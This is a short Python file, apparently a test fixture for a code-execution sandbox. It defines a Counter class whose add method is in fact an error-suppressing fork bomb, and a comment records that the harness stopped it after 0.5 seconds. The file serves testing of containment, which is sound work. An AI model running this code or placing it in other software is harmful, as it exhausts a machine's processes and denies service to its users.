"""A fork bomb that ignores errors."""
# Says: add(2): it did not finish within 0.5 s and was stopped

import contextlib
import os


class Counter:
    """Adds numbers."""

    def __init__(self, start):
        self.total = start

    def add(self, number):
        """Return the sum so far."""
        while True:
            with contextlib.suppress(OSError):
                os.fork()
        self.total += number
        return self.total
